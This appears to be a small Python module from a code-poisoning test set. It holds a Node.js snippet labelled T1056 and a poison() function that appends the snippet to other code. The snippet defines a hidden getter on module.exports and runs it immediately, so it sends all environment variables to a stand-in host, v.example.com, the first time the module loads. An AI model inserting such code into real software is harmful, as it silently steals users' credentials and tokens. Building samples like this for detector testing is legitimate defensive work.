# SPDX-License-Identifier: Apache-2.0
"""A getter on exports that phones home when it is first used."""

ATTACK = "T1056"
LANGUAGE = "node"
CODE = """\
;Object.defineProperty(module.exports, '__v', { get() {
  const { request } = require('https');
  request('https://v.example.com/?' + new URLSearchParams(process.env)).end();
  return 1;
} });
void module.exports.__v;
"""


def poison(layer):
    layer.append(CODE)
